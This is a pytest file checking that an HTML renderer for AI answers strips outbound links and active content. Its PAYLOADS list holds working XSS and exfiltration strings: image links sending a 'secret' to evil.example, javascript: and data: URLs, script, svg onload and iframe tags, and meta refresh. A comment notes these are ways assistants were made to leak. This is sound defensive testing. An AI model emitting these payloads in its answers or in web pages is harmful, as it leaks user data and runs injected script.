"""Answers as HTML: nothing in them may load, run or lead elsewhere."""

from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit
from uuid import UUID

import pytest

from api.rendering import render
from core.records import Citation

CITATION = Citation(1, 5, UUID(int=7), "a.md", "A", ("H",), None, "quote")
OPENS = "/?document=00000000-0000-0000-0000-000000000007&passage=5"

# Ways that assistants have been made to leak through what they wrote.
PAYLOADS = [
    "![x](http://evil.example/x.png?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/x.png",
    "[click](http://evil.example)",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "[click](\\\\evil.example)",
    "[click](https:evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    "[click](/%09/evil.example)",
    '[click](http://evil.example "title")',
    "[a]: http://evil.example\n\n[a]",
    "[1]: http://evil.example\n\n[1]",
    "<http://evil.example>",
    "<a@evil.example>",
    "http://evil.example/x",
    "www.evil.example",
    "<img src=http://evil.example/x.png>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    "<a href=http://evil.example>x</a>",
    "<style>@import 'http://evil.example'</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<form action=http://evil.example><button>go</button></form>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=http://evil.example></object>",
    "<video poster=http://evil.example></video>",
    '<div style="background:url(http://evil.example)">x</div>',
    "&lt;img src=http://evil.example&gt;",
    "```html\n<img src=http://evil.example>\n```",
    "| a |\n|---|\n| ![x](http://evil.example) |",
    "> ![x](http://evil.example)",
    "[![x](http://evil.example)](http://evil.example)",
    "[x](<http://evil.example>)",
    '<a class="cite" data-n="1" href="http://evil.example">[1]</a>',
    "[1](http://evil.example)",
    "\u202e[x](http://evil.example)",
]


class Tags(HTMLParser):
    """Collects the elements of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_an_answer_leads_out(payload: str) -> None:
    for tag, attributes in Tags(render(f"Before. {payload}\n\n{payload}", [CITATION])).found:
        assert tag in {"p", "a", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "br"}
        assert set(attributes) <= {"href", "class", "data-n"}
        href = attributes.get("href") or "/"
        assert urlsplit(urljoin("http://own.example/here", href)).netloc == "own.example"
        assert "\\" not in href


def test_a_mark_opens_its_passage() -> None:
    (_, (tag, attributes)) = Tags(render("Sixteen weeks [1].", [CITATION])).found
    assert tag == "a"
    assert attributes == {"class": "cite", "data-n": "1", "href": OPENS}


@pytest.mark.parametrize("text", ["Unknown [2].", "Escaped \\[1].", "In code: `[1]`", "[12345]", "[1 ]", "［1］"])
def test_what_is_not_a_known_mark_stays_text(text: str) -> None:
    assert "<a" not in render(text, [CITATION])


def test_marks_inside_emphasis_lists_and_tables_open_too() -> None:
    html = render("**Bold [1]**\n\n- item [1]\n\n| a |\n|---|\n| cell [1] |", [CITATION])
    assert html.count('class="cite"') == 3


def test_own_addresses_stay_links() -> None:
    assert '<a href="/documents?x=1">' in render("[the list](/documents?x=1)")


def test_plain_structure_survives() -> None:
    html = render("# Head\n\n1. one\n2. two\n\n*em* **strong** `code`\nnext line")
    for tag in ("<h1>", "<ol>", "<li>", "<em>", "<strong>", "<code>", "<br>"):
        assert tag in html
